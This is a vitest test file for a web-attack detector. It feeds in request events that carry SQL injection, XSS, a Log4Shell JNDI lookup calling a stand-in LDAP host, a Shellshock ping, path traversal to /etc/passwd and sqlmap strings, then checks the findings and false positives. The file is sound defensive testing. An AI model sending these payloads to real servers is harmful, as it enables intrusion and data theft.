// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders are what is tested
import { describe, expect, it } from 'vitest';
import { type DetectionRun, runDetectors } from '../../../src/detectors/run.ts';
import type { Finding } from '../../../src/schema/finding.ts';
import type { EventStore } from '../../../src/store/event-store.ts';
import { forEachEngine, type TestEngine } from '../../helpers/engines.ts';
import { assertExplained, eventsOfFindings } from '../../helpers/finding-checks.ts';
import { insertEvents, type PlainEvent } from '../../helpers/loaded-stores.ts';
import { moment, ordinaryVisits, request } from '../../helpers/web-events.ts';

const ATTACKER = '203.0.113.77';
const OPTIONS = { detectors: ['web-attacks'] };

const findingsIn = async (
  engine: TestEngine,
  events: readonly PlainEvent[],
): Promise<DetectionRun & { readonly store: EventStore }> => {
  const store = await engine.open();
  await insertEvents(store, 'web', events);
  const run = await runDetectors(store, OPTIONS);
  expect((await eventsOfFindings(store, run.findings)).size).toBe(run.findings.length);
  return { ...run, store };
};

const metric = (finding: Finding | undefined, name: string): unknown =>
  finding?.evidence.metrics.find((item) => item.name === name)?.value;
const kinds = (findings: readonly Finding[]): readonly string[] =>
  findings.map(
    ({ entity, title, events }) => `${entity.value} ${events}: ${title.replace(`${entity.value} `, '')}`,
  );

/** Visitors who search; their answers are 4,000 to 4,070 bytes. */
const searches: readonly PlainEvent[] = Array.from({ length: 60 }, (_, index) =>
  request(`198.51.100.${(index % 20) + 1}`, `/search?q=lamp+${index}`, 200, index * 20, {
    'http.response.body.bytes': 4_000 + (index % 8) * 10,
  }),
);

forEachEngine((engine) => {
  describe('an address that injects', () => {
    it('is found by family, with its numbers and exactly its events', async () => {
      const { findings, store } = await findingsIn(engine, [
        ...ordinaryVisits(9, 9),
        request(ATTACKER, "/search?q=1'+OR+'1'='1", 200, 100, { 'http.response.body.bytes': null }),
        request(ATTACKER, '/search?q=%2527%2520union%2520select%2520null%252Cnull', 500, 101),
        request(ATTACKER, '/search?q=<script>alert(1)</script>', 404, 102),
        request(ATTACKER, '/articles/3', 200, 103),
      ]);
      expect(kinds(findings)).toEqual([
        `${ATTACKER} 2: sent SQL injection in 2 requests`,
        `${ATTACKER} 1: sent cross-site scripting (XSS) in 1 request`,
      ]);
      const [sql, script] = findings;
      expect([sql?.start, sql?.end, sql?.attack]).toEqual([moment(100), moment(101), ['T1190']]);
      expect(metric(sql, 'layers of encoding')).toBe(2);
      expect(metric(sql, 'requests in these windows')).toBe(4);
      expect(metric(sql, 'did it work')).toBe('reached the program');
      expect(metric(sql, 'requests afterwards')).toBe(1);
      expect(metric(script, 'did it work')).toBe('refused');
      expect(await assertExplained(store, findings, OPTIONS)).toBe(2);
    });

    it('may have succeeded where the answer has an unusual size', async () => {
      const attack = (bytes: number): PlainEvent =>
        request(ATTACKER, "/search?q=x'+UNION+SELECT+name,pass+FROM+users--", 200, 2_000, {
          'http.response.body.bytes': bytes,
        });
      const usual = await findingsIn(engine, [...searches, attack(4_050)]);
      const large = await findingsIn(engine, [...searches, attack(91_000)]);
      expect(metric(usual.findings[0], 'did it work')).toBe('answered as usual');
      expect(metric(large.findings[0], 'did it work')).toBe('may have worked');
      const size = large.findings[0]?.evidence.metrics.find(({ name }) => name === 'oddest size');
      expect([size?.value, size?.baseline, size?.sampleSize]).toEqual([91_000, 4_030, 60]);
      expect(large.findings[0]?.severity).toBeGreaterThan((usual.findings[0]?.severity ?? 0) + 15);
      expect(large.findings[0]?.title).toMatch(/may have worked/);
    });

    it('is found in its agent and its referrer too', async () => {
      const { findings } = await findingsIn(engine, [
        ...ordinaryVisits(9, 9),
        request(ATTACKER, '/', 200, 5, { 'user_agent.original': '${jndi:ldap://203.0.113.9/a}' }),
        request(ATTACKER, '/', 200, 6, { 'user_agent.original': '() { :;}; /bin/ping -c 3 203.0.113.9' }),
        request(ATTACKER, '/a', 200, 7, {
          'http.request.referrer': 'https://shop.example/?id=1%27%20AND%20SLEEP(5)--',
        }),
        request('203.0.113.78', '/b', 200, 8, { 'http.request.referrer': "https://o'brien.example/?a=(b)" }),
      ]);
      expect(kinds(findings)).toEqual([
        `${ATTACKER} 1: sent look-up injection (Log4Shell) in 1 request`,
        `${ATTACKER} 1: sent command injection in 1 request`,
        `${ATTACKER} 1: sent SQL injection in 1 request`,
      ]);
    });

    it('is one finding over a pause, two over a long one, and found without times', async () => {
      const attack = (second: number | null): PlainEvent =>
        request(ATTACKER, '/?file=../../etc/passwd', 404, second);
      const paused = await findingsIn(engine, [attack(0), attack(9_000), attack(70_000), attack(70_001)]);
      expect(paused.findings.map(({ events }) => events)).toEqual([2, 2]);
      const timeless = await findingsIn(engine, [attack(null), attack(null)]);
      expect(timeless.findings.map(({ events, start }) => [events, start])).toEqual([[2, null]]);
    });
  });

  describe('a flood of attacks', () => {
    const flood = (target: (index: number) => string, count = 300): readonly PlainEvent[] =>
      Array.from({ length: count }, (_, index) => request(ATTACKER, target(index), 200, 100 + index));

    it('has a short filter by the pieces that its targets share', async () => {
      const { findings } = await findingsIn(engine, [
        ...flood((index) => `/item?id=${index}%27%20or%20${index}=${index}`),
        ...Array.from({ length: 40 }, (_, index) =>
          request(ATTACKER, `/item?id=${index}`, 200, 90 + 9 * index),
        ),
      ]);
      expect(findings.map(({ events }) => events)).toEqual([300]);
      expect(findings[0]?.filter).toContain('url.original : *%27*');
    });

    it('shows all requests of its hours where nothing shorter tells its attacks apart', async () => {
      const { findings } = await findingsIn(engine, [
        ...flood((index) => `/item?page=prompt(${index})`, 60),
        ...Array.from({ length: 40 }, (_, index) =>
          request(ATTACKER, `/item?id=${index}`, 200, 90 + 9 * index),
        ),
      ]);
      expect(findings.map(({ events }) => events)).toEqual([100]);
      expect(metric(findings[0], 'attacks')).toBe(60);
      expect(metric(findings[0], 'events shown')).toBe('all requests of these windows');
    });
  });

  describe('what is no attack', () => {
    it('stays silent on ordinary requests, quotes and brackets included', async () => {
      const targets = [
        "/search?q=o'brien",
        '/search?q=%22rock+and+roll%22',
        '/wiki/Lamp_(furniture)',
        '/search?q=union+square+select+hotels',
        '/list?filter%5Bcolour%5D=red&sort=price,asc',
        '/api?json=%7B%22a%22%3A%5B1%2C2%5D%7D',
        '/go?url=https%3A%2F%2Fshop.example%2Fa.php%3Fid%3D5',
        '/find?text=drop+off+table+for+two',
        '/find?text=50%25+off+%3C+100+euro',
        '/static/../app.js',
      ];
      const { findings } = await findingsIn(
        engine,
        targets.map((target, index) => request(`198.51.100.${index}`, target, 200, index)),
      );
      expect(kinds(findings)).toEqual([]);
    });
  });

  describe('bad input', () => {
    it('is a long target, a thousand parameters and ten layers of encoding', async () => {
      let wrapped = "' or 1=1--";
      for (let layer = 0; layer < 12; layer += 1) wrapped = encodeURIComponent(wrapped);
      const parameters = Array.from({ length: 1_000 }, (_, index) => `p${index}=${index}`).join('&');
      const { findings } = await findingsIn(engine, [
        request('203.0.113.1', `/x?q=${'a'.repeat(2_000_000)}%27+or+1=1--`, 414, 1),
        request('203.0.113.2', `/x?${parameters}&z=%3Cscript%3E`, 200, 2),
        request('203.0.113.3', `/x?q=${wrapped}`, 200, 3),
        request('203.0.113.4', `/x?q="*)\\\u0007\u202e' or '1'='1`, 200, 4, {
          'user_agent.original': '"*\u001b[31m sqlmap',
        }),
        request('203.0.113.5', '/x', 405, 5, { 'http.request.method': 'TRACE' }),
      ]);
      const byAddress = Object.fromEntries(
        findings.map(({ entity, title }) => [`${entity.value} ${title}`, true]),
      );
      expect(
        Object.keys(byAddress)
          .map((title) => title.split(' ').slice(0, 5).join(' '))
          .sort(),
      ).toEqual([
        '203.0.113.1 203.0.113.1 sent odd methods',
        '203.0.113.2 203.0.113.2 sent cross-site scripting',
        '203.0.113.2 203.0.113.2 sent odd methods',
        '203.0.113.3 203.0.113.3 sent odd methods',
        '203.0.113.4 203.0.113.4 called itself a',
        '203.0.113.4 203.0.113.4 sent SQL injection',
        '203.0.113.5 203.0.113.5 sent odd methods',
      ]);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: the absence of them is the point
      expect(findings.map(({ explanation }) => explanation).join('')).not.toMatch(/[\u0000-\u001f\u202e]/);
    });
  });
});
